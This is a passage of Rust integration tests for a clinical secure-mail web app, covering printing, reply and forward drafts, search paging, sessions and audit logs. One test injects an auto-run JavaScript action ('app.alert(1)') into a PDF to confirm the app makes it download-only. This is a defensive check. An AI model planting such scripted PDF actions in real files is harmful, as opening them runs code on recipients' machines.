    assert!(page.body.contains("summary.pdf"));
    let files = drafts::attachments(&app.state.db, id).await.unwrap();
    assert_eq!(files.len(), 1);
    let (_, _, bytes) = get_bytes(
        &ana,
        &format!("/mail/drafts/{id}/attachments/{}", files[0].id),
    )
    .await;
    assert_eq!(bytes, letter);
    // the failed message stays where it was
    assert_eq!(place(&app, sent).await, at("sent", true));
}

// ---------------------------------------------------------------------------------
// 12. printing, and drafts made from a message

#[tokio::test]
async fn the_print_view_has_the_subject_headers_and_text_and_is_audited() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "marc@labs.example",
            "dr.ana@direct.lakeside.test",
            "Lab results for Ms. Diaz",
            "Potassium 4.1 mmol/L.\nNo action needed.",
        )
        .named("Marc Dubois")
        .cc("front@direct.hillside.test")
        .file("labs.pdf", pdf("Labs")),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = ana.get(&format!("/mail/messages/{id}")).await;
    assert!(page.body.contains(&format!("/mail/messages/{id}/print")));
    let print = ana.get(&format!("/mail/messages/{id}/print")).await;
    assert_eq!(print.status, StatusCode::OK);
    let text = unescape(&print.body);
    assert!(text.contains("<h1>Lab results for Ms. Diaz</h1>"), "{text}");
    assert!(text.contains("Marc Dubois <marc@labs.example>"), "{text}");
    assert!(text.contains("dr.ana@direct.lakeside.test"));
    assert!(
        text.contains("<dt>Cc</dt><dd>front@direct.hillside.test</dd>"),
        "{text}"
    );
    assert!(text.contains("Potassium 4.1 mmol/L.") && text.contains("No action needed."));
    assert!(text.contains("labs.pdf"));
    assert!(text.contains(TRUSTED));
    assert!(audited(&app, "message.print", "ana@direct.lakeside.test").await);
}

#[tokio::test]
async fn reply_all_and_forward_open_drafts_with_the_right_people_subject_and_files() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let file = pdf("Care plan");
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "marc@partner.example",
            "dr.ana@direct.lakeside.test, nurse@partner.example",
            "Re: Care plan",
            "Plan attached.",
        )
        .named("Marc Dubois")
        .cc("front@direct.hillside.test, dr.ana@direct.lakeside.test")
        .file("plan.pdf", file.clone()),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let open = async |b: &mut Browser, action: &str| -> (i64, Page) {
        let r = b
            .post(&format!("/mail/messages/{id}/act"), &[("action", action)])
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{action}: {}", r.body);
        let d = draft_id(&r.location());
        (d, b.get(&r.location()).await)
    };

    let (_, page) = open(&mut ana, "reply").await;
    assert_eq!(field(&page, "to"), "marc@partner.example");
    assert_eq!(field(&page, "cc"), "");
    assert_eq!(field(&page, "subject"), "Re: Care plan", "no Re: Re:");

    let (_, page) = open(&mut ana, "reply-all").await;
    assert_eq!(
        field(&page, "to"),
        "marc@partner.example, nurse@partner.example"
    );
    assert_eq!(
        field(&page, "cc"),
        "front@direct.hillside.test",
        "never oneself"
    );
    assert!(field(&page, "body").contains("> Plan attached."));

    let (d, page) = open(&mut ana, "forward").await;
    assert_eq!(field(&page, "to"), "");
    assert_eq!(field(&page, "subject"), "Fwd: Re: Care plan");
    let body = field(&page, "body");
    assert!(
        body.contains("Forwarded message")
            && body.contains("From: marc@partner.example")
            && body.contains("Plan attached."),
        "{body}"
    );
    let files = drafts::attachments(&app.state.db, d).await.unwrap();
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].name, "plan.pdf");
    let (_, _, bytes) = get_bytes(
        &ana,
        &format!("/mail/drafts/{d}/attachments/{}", files[0].id),
    )
    .await;
    assert_eq!(bytes, file);
    let page = ana.get(&format!("/mail/{}/drafts", mb.id)).await;
    assert_eq!(count(&page.body, "drafts"), 3);
    assert!(audited(&app, "draft.create", "ana@direct.lakeside.test").await);

    // sending the forward shows on the original who forwarded it
    let sent = ana
        .post(
            &format!("/mail/drafts/{d}/send"),
            &[
                ("to", "dr.ana@direct.lakeside.test"),
                ("cc", ""),
                ("subject", "Fwd: Re: Care plan"),
                ("body", &body),
            ],
        )
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let original = ana.get(&format!("/mail/messages/{id}")).await;
    assert!(original.body.contains("Forwarded by"), "{}", original.body);
}

#[tokio::test]
async fn undoing_a_delete_after_its_folder_was_removed_brings_the_messages_to_the_inbox() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "lab@partner.example",
            "dr.ana@direct.lakeside.test",
            "Filed",
            "x",
        ),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let r = ana
        .post(
            &format!("/mail/{}/folders", mb.id),
            &[("name", "Old cases")],
        )
        .await;
    let key = r.location().rsplit('/').next().unwrap().to_owned();
    act(
        &mut ana,
        mb.id,
        &[("action", "move"), ("folder", key.as_str())],
        &[id],
    )
    .await;
    act(&mut ana, mb.id, &[("action", "trash")], &[id]).await;
    ana.post(&format!("/mail/{}/folders/{key}/delete", mb.id), &[])
        .await;
    let r = ana.post(&format!("/mail/{}/undo", mb.id), &[]).await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Undone: 1 message back as they were.");
    assert_eq!(
        place(&app, id).await,
        at("inbox", false),
        "not in a folder that is gone"
    );
    assert_eq!(row_ids(&page.body), vec![id]);
}

/// Every stored session, as text, to tell whether a request rewrote one.
async fn sessions(app: &TestApp) -> Vec<String> {
    let sql = match app.state.db.backend {
        directmail::db::Backend::Sqlite => {
            "select id || ' ' || cast(expiry_date as text) || ' ' || hex(data) as s
             from tower_sessions order by id"
        }
        directmail::db::Backend::Postgres => {
            "select id || ' ' || expiry_date::text || ' ' || encode(data, 'hex') as s
             from tower_sessions.session order by id"
        }
    };
    sqlx::query_scalar(sql)
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn the_list_names_senders_from_the_directory_and_viewing_pages_does_not_rewrite_the_session()
{
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let to = "dr.ana@direct.lakeside.test";
    let known = deliver(
        &app,
        mb.id,
        &Mail::new("Lab@Partner.Example", to, "Potassium", "4.1"),
    )
    .await;
    let mut headed = Mail::new("nurse@else.example", to, "Visit", "Tuesday.");
    headed.from_name = "Nurse Joy".into();
    let headed = deliver(&app, mb.id, &headed).await;
    let bare = deliver(
        &app,
        mb.id,
        &Mail::new("someone@else.example", to, "Hello", "Hi."),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("partners.csv");
    std::fs::write(
        &file,
        "kind,name,organization,npi,specialties,city,state,zip,phone,direct_addresses\n\
         service,Partner Laboratory,Partner Health,,,Peoria,IL,61602,,lab@partner.example\n",
    )
    .unwrap();
    crate::directory::cli_import(&app, &file).await;

    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let inbox = format!("/mail/{}/inbox", mb.id);
    let page = ana.get(&inbox).await;
    assert!(
        row(&page.body, known).contains("Partner Laboratory"),
        "the directory's name, whatever the address's case"
    );
    assert!(
        row(&page.body, headed).contains("Nurse Joy"),
        "the From name"
    );
    assert!(row(&page.body, bare).contains("someone@else.example"));

    // opening an unread message counts it as read in the sidebar at once
    assert_eq!(count(&page.body, "inbox"), 3);
    let opened = ana.get(&format!("/mail/messages/{bare}")).await;
    assert_eq!(count(&opened.body, "inbox"), 2, "the open message is read");

    // looking at pages saves nothing: the session is written when it changes. The
    // last-seen time is refreshed when it is 10 s old, so it is refreshed first and the
    // pages below have those 10 s of real time to be looked at
    app.state.clock.advance(10);
    ana.get(&inbox).await;
    let before = sessions(&app).await;
    assert!(!before.is_empty());
    for path in [
        inbox.clone(),
        format!("/mail/{}/archive", mb.id),
        format!("/mail/{}/search?q=potassium", mb.id),
        format!("/mail/messages/{known}"),
    ] {
        assert_eq!(ana.get(&path).await.status, StatusCode::OK, "{path}");
    }
    assert_eq!(sessions(&app).await, before);
}

#[tokio::test]
async fn a_search_finds_old_matches_beyond_the_newest_two_thousand_messages() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    // 2 100 messages: the 40 oldest and the 40 newest mention "echogram"; PostgreSQL
    // looks through the newest 2 000 first and must then go on to the rest
    let now = app.now();
    let seed: Vec<(Mail, i64)> = (0..2100)
        .map(|i| {
            let word = if !(40..2060).contains(&i) {
                "echogram"
            } else {
                "census"
            };
            let mail = Mail::new(
                "lab@partner.example",
                "dr.ana@direct.lakeside.test",
                &format!("Report {i}"),
                &format!("Weekly {word} figures."),
            );
            (mail, now - 2100 + i)
        })
        .collect();
    let ids = deliver_many(&app, mb.id, &seed).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let first = search(&mut ana, mb.id, &[("q", "echogram")]).await;
    let mut expected: Vec<i64> = ids[2060..].iter().chain(&ids[..40]).copied().collect();
    expected.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(
        row_ids(&first.body),
        expected[..50],
        "the 40 newest, then the oldest"
    );
    let second = ana.get(&older(&first.body).expect("an Older link")).await;
    assert_eq!(row_ids(&second.body), expected[50..]);
}

#[tokio::test]
async fn a_search_finds_every_term_a_word_begins_newest_first_page_by_page() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    // SQLite names the few terms a word begins instead of asking for the prefix, and
    // keeps the prefix when there are many ("natrium" begins 21): the same answers
    let kinds = ["kalium", "kaliumchlorid", "kaliumsalz", "natrium"];
    let now = app.now();
    let seed: Vec<(Mail, i64)> = (0..130)
        .map(|i| {
            let mail = Mail::new(
                &format!("lab{}@partner.example", i % 3),
                "dr.ana@direct.lakeside.test",
                &format!("Report {i}"),
                &format!("Weekly {} figures, lot natrium{}.", kinds[i % 4], i % 20),
            );
            (mail, now - 130 + i as i64)
        })
        .collect();
    let ids = deliver_many(&app, mb.id, &seed).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    // one of them in Trash, which search leaves out
    let trashed = ids[128];
    act(&mut ana, mb.id, &[("action", "trash")], &[trashed]).await;
    let expected = |keep: &dyn Fn(usize) -> bool| -> Vec<i64> {
        let mut found: Vec<i64> = (0..130)
            .filter(|&i| keep(i) && ids[i] != trashed)
            .map(|i| ids[i])
            .collect();
        found.reverse();
        found
    };
    type Case<'a> = (&'a [(&'a str, &'a str)], Vec<i64>);
    let cases: Vec<Case> = vec![
        (&[("q", "kalium")], expected(&|i| i % 4 != 3)),
        (&[("q", "KALIUMC")], expected(&|i| i % 4 == 1)),
        (&[("q", "kaliumsalz")], expected(&|i| i % 4 == 2)),
        (
            &[("q", "natrium1 kalium")],
            expected(&|i| i % 4 != 3 && (i % 20 == 1 || i % 20 >= 10)),
        ),
        (&[("q", "natrium")], expected(&|_| true)),
        (&[("q", "natr kal")], expected(&|i| i % 4 != 3)),
        (&[("from", "lab1")], expected(&|i| i % 3 == 1)),
        (
            &[("q", "kalium"), ("from", "lab2")],
            expected(&|i| i % 4 != 3 && i % 3 == 2),
        ),
        // a word that begins no term, beside one that begins many
        (&[("q", "kaliumz")], Vec::new()),
        (&[("q", "natrium kaliumz")], Vec::new()),
    ];
    for (query, want) in cases {
        let mut page = search(&mut ana, mb.id, query).await;
        let mut got = row_ids(&page.body);
        while let Some(next) = older(&page.body) {
            assert_eq!(row_ids(&page.body).len(), 50, "{query:?}: full pages first");
            page = ana.get(&next).await;
            assert_eq!(page.status, StatusCode::OK);
            got.extend(row_ids(&page.body));
        }
        assert_eq!(got, want, "{query:?}");
    }
}

#[tokio::test]
async fn a_received_pdf_that_fails_the_upload_checks_is_download_only_with_the_reason() {
    let app = TestApp::spawn().await;
    let ana = ana_desk(&app).await;
    // a PDF that runs JavaScript when opened, beside a clean one
    let mut scripted = pdf("Open me");
    let at = scripted.len() - 6;
    scripted.splice(
        at..at,
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
            .iter()
            .copied(),
    );
    let mail = Mail::new(
        "dr.kim@direct.hillside.test",
        "dr.ana@direct.lakeside.test",
        "Two files",
        "See attached.",
    )
    .file("clean.pdf", pdf("Clean"))
    .file("scripted.pdf", scripted.clone());
    let ids = deliver_many(&app, ana.id, &[(mail, app.now())]).await;
    let id = ids[0];
    let mut b = app.signed_in("ana@direct.lakeside.test").await;
    let page = b.get(&format!("/mail/messages/{id}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body
            .contains(&format!("/mail/messages/{id}/attachments/0?inline=1")),
        "the clean PDF opens in the browser"
    );
    assert!(
        !page
            .body
            .contains(&format!("/mail/messages/{id}/attachments/1?inline=1")),
        "the scripted one does not"
    );
    assert!(
        page.body.contains("Download only:") && page.body.contains("JavaScript"),
        "the reason is shown: {}",
        page.body
    );
    // asked for inline anyway, it comes as a download
    let (status, headers, bytes) =
        get_bytes(&b, &format!("/mail/messages/{id}/attachments/1?inline=1")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(header(&headers, "content-disposition").starts_with("attachment"));
    assert_eq!(header(&headers, "content-type"), "application/octet-stream");
    assert_eq!(bytes, scripted);
}

#[tokio::test]
async fn compose_asks_in_order_focuses_where_one_writes_and_lists_only_drafts_with_something_in_them()
 {
    let app = TestApp::spawn().await;
    let (ana_box, _) = app.lakeside_and_hillside().await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let draft = compose(&mut ana, ana_box.id).await;
    let page = ana.get(&format!("/mail/drafts/{draft}")).await;
    // To has the focus; the attachments come before the one primary button, Send
    let body = &page.body;
    assert!(
        body.contains(r#"<input id="to" name="to" value="" autofocus"#),
        "{body}"
    );
    let at = |needle: &str| body.find(needle).unwrap_or_else(|| panic!("{needle}"));
    assert!(at(r#"id="att-title""#) < at(r#"id="send""#));
    assert!(body.contains(r#"class="primary" id="send">Send</button>"#));
    assert!(body.contains(r#"class="secondary" id="save">Save draft</button>"#));
    assert!(body.contains("The attachments of one message may add up to 30 MB."));
    // opened and left empty: not a draft anyone has to clean up
    let drafts = ana.get(&format!("/mail/{}/drafts", ana_box.id)).await;
    assert_eq!(count(&drafts.body, "drafts"), 0);
    assert!(!drafts.body.contains(&format!("/mail/drafts/{draft}\"")));
    // a file makes it one, shown with its type in words
    let up = ana
        .upload(
            &format!("/mail/drafts/{draft}/attachments"),
            &[("summary.pdf", "application/pdf", &pdf("Summary"))],
            true,
        )
        .await;
    assert!(up.body.contains("PDF document"), "{}", up.body);
    let drafts = ana.get(&format!("/mail/{}/drafts", ana_box.id)).await;
    assert_eq!(count(&drafts.body, "drafts"), 1);
    assert!(drafts.body.contains(&format!("/mail/drafts/{draft}")));

    // a reply puts the focus in the text
    let received = deliver(
        &app,
        ana_box.id,
        &Mail::new(
            "front@direct.hillside.test",
            "dr.ana@direct.lakeside.test",
            "Question",
            "Can you see her Friday?",
        ),
    )
    .await;
    let r = ana
        .post(
            &format!("/mail/messages/{received}/act"),
            &[("action", "reply")],
        )
        .await;
    let reply = ana.get(&r.location()).await;
    assert!(
        reply
            .body
            .contains(r#"<textarea id="body" name="body" rows="16" autofocus>"#)
    );
    assert!(
        !reply
            .body
            .contains(r#"name="to" value="front@direct.hillside.test" autofocus"#)
    );
}

#[tokio::test]
async fn the_organizations_audit_log_names_messages_mailboxes_and_links_what_the_reader_may_open() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "dr.kim@direct.hillside.test",
            "dr.ana@direct.lakeside.test",
            "Referral for Ms. Diaz",
            "Hello.",
        ),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    ana.get(&format!("/mail/messages/{id}")).await;
    let org = directmail::store::orgs::get(&app.state.db, mb.org_id)
        .await
        .unwrap()
        .unwrap();
    let boss = app
        .user(Some(&org), "boss@direct.lakeside.test", Role::OrgAdmin)
        .await;
    let log = format!("/orgs/{}/audit?action=message.read", org.id);
    // without the mailbox: which mailbox, not what the message is about, and no link
    let mut b = app.signed_in("boss@direct.lakeside.test").await;
    let page = unescape(&b.get(&log).await.body);
    assert!(
        page.contains("a message in dr.ana@direct.lakeside.test"),
        "{page}"
    );
    assert!(!page.contains("Referral for Ms. Diaz"));
    // with it: the subject, linked
    assign(&app, mb.id, boss.id).await;
    let page = unescape(&b.get(&log).await.body);
    assert!(
        page.contains(&format!(
            r#"<a href="/mail/messages/{id}">Referral for Ms. Diaz (dr.ana@direct.lakeside.test)</a>"#
        )),
        "{page}"
    );
}
